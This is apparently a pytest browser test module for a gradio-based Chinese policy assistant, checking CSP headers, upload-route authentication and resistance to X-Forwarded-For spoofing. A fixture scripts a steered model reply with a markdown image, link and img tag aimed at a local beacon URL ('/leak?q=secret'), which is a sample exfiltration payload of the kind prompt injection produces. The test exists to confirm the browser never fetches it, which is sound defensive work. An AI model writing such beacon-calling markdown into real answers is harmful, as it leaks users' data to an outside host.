"""Issue 11 in a real browser (Debian chromium through playwright, ``python app.py`` in a
subprocess on 127.0.0.1): the Content-Security-Policy leaves gradio working (no
violation reported anywhere while the page is used), a model steered to write a markdown
image never makes the browser fetch it, the upload route refuses a browser that has not
logged in, and X-Forwarded-For from a local client does not change the audited address."""
from __future__ import annotations

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from assistant.appprocess import AppProcess
from browser_support import require_browser

pytestmark = [pytest.mark.browser, pytest.mark.timeout(900)]

ADMIN_PASSWORD = "加固-浏览器-密码"
ANSWER_TIMEOUT = 60_000
QUESTION = "职工教育经费用在一线职工身上的比例有什么要求？"
# Records, from before the page's own scripts run, every CSP violation and every image or
# link that ever appears in the page (a draft may be replaced within milliseconds).
WATCH_JS = """
window.__csp = []; window.__imgs = []; window.__links = [];
document.addEventListener('securitypolicyviolation', e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
new MutationObserver(records => { for (const r of records) for (const n of r.addedNodes) {
  if (!(n instanceof Element)) continue;
  for (const img of [n, ...n.querySelectorAll('img')]) if (img.tagName === 'IMG') window.__imgs.push(img.getAttribute('src') || '');
  for (const a of [n, ...n.querySelectorAll('a[href]')]) if (a.tagName === 'A' && a.getAttribute('href')) window.__links.push(a.getAttribute('href'));
}}).observe(document, {childList: true, subtree: true});
"""

require_browser()  # skips this module without Chromium or playwright


class Beacon(BaseHTTPRequestHandler):
    """Counts every request: what a steered model's markdown image would point at."""

    hits: list[str] = []

    def log_message(self, *args) -> None:
        return

    def do_GET(self) -> None:
        Beacon.hits.append(self.path)
        self.send_response(204)
        self.end_headers()


@pytest.fixture(scope="module")
def beacon():
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Beacon)
    httpd.daemon_threads = True
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield httpd.server_address[1]
    httpd.shutdown()
    httpd.server_close()


@pytest.fixture(scope="module")
def model(beacon):
    """A scripted OpenAI-compatible endpoint (tests/test_llm.py) whose every reply is
    markdown aimed at the beacon, with blank lines, then an unverifiable answer."""
    from test_llm import Script, _handler

    script = Script()
    attack = (f"企业应当开展培训[1]。\n\n![x](http://127.0.0.1:{beacon}/leak?q=secret)\n\n"
              f"[点此](http://127.0.0.1:{beacon}/click)\n\n<img src=\"http://127.0.0.1:{beacon}/html\">")
    for _ in range(20):
        script.reply(attack)
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _handler(script))
    httpd.daemon_threads = True
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/v1", script
    httpd.shutdown()
    httpd.server_close()


@pytest.fixture(scope="module")
def app(tmp_path_factory, model):
    base_url, _ = model
    folder = tmp_path_factory.mktemp("hardened-app")
    with AppProcess(folder, POLICY_ADMIN_PASSWORD=ADMIN_PASSWORD, POLICY_LLM_BASE_URL=base_url,
                    POLICY_LLM_MODEL="scripted", POLICY_LLM_API_KEY="test", NO_PROXY="127.0.0.1",
                    no_proxy="127.0.0.1") as process:
        process.data_dir = folder / "data"
        yield process


@pytest.fixture()
def page(browser, app):
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="zh-CN", accept_downloads=True)
    context.add_init_script(WATCH_JS)
    page = context.new_page()
    page.goto(app.url + "/")
    page.wait_for_selector("#question textarea")
    yield page
    context.close()


def ask(page, question: str):
    before = page.locator("#chat .answer").count()
    page.fill("#question textarea", question)
    page.click("#send")
    page.wait_for_function("n => document.querySelectorAll('#chat .answer').length > n", arg=before,
                           timeout=ANSWER_TIMEOUT)
    return page.locator("#chat .answer").nth(before)


def test_every_page_response_carries_the_policy(app):
    status, _ = app.get("/")
    assert status == 200
    import urllib.request

    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(app.url + "/", timeout=10) as response:
        policy = response.headers["Content-Security-Policy"]
    assert "default-src 'self'" in policy and "connect-src 'self'" in policy and "http" not in policy


def test_gradio_works_under_the_policy_with_no_violation(page):
    answer = ask(page, QUESTION)
    assert "60%" in answer.inner_text()
    page.get_by_role("tab", name="资格核对（HR）").click()
    page.get_by_label("毕业生类别").click()
    page.get_by_role("option", name="技工院校技师班毕业生").click()
    page.locator(".check-rule:visible").click()
    page.locator("#verdict .verdict").wait_for()
    page.get_by_role("tab", name="政策浏览").click()
    page.get_by_text("人力资源社会保障部等8部门", exact=True).wait_for()
    assert page.evaluate("window.__csp") == []


def test_a_steered_model_never_makes_the_browser_fetch_anything(page, model, beacon):
    _, script = model
    Beacon.hits.clear()
    answer = ask(page, QUESTION)
    assert len(script.requests) >= 1  # the model was asked and streamed its markdown
    page.wait_for_timeout(1000)
    assert "60%" in answer.inner_text()  # the unverifiable draft was replaced by the extractive answer
    beacon_url = f"127.0.0.1:{beacon}"
    assert not [src for src in page.evaluate("window.__imgs") if beacon_url in src]  # never even an <img>
    assert not [href for href in page.evaluate("window.__links") if beacon_url in href]
    assert Beacon.hits == []


def test_the_upload_route_refuses_a_browser_that_has_not_logged_in(page):
    response = page.request.post(page.url.rstrip("/") + "/gradio_api/upload",
                                 multipart={"files": {"name": "a.txt", "mimeType": "text/plain", "buffer": b"abc"}})
    assert response.status == 403


def test_a_forwarded_for_header_from_a_local_client_is_not_believed(browser, app):
    """Needs app.py to run uvicorn with proxy_headers=False (uvicorn otherwise trusts
    X-Forwarded-For from 127.0.0.1); the address is then taken by assistant.webguard."""
    context = browser.new_context(extra_http_headers={"X-Forwarded-For": "6.6.6.6"})
    page = context.new_page()
    try:
        page.goto(app.url + "/")
        page.get_by_role("tab", name="知识库管理").click()
        page.fill("#admin-name textarea", "王管理")
        page.fill("#admin-password input", "错误密码")
        page.click("#admin-login-button")
        page.locator("#admin-login-note", has_text="密码错误").wait_for()
    finally:
        context.close()
    deadline = time.monotonic() + 10
    entries = []
    while time.monotonic() < deadline and not entries:
        path = app.data_dir / "admin_audit.jsonl"
        entries = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()] if path.exists() else []
        time.sleep(0.2)
    assert entries and all(e["actor"] == "王管理@127.0.0.1" for e in entries), entries
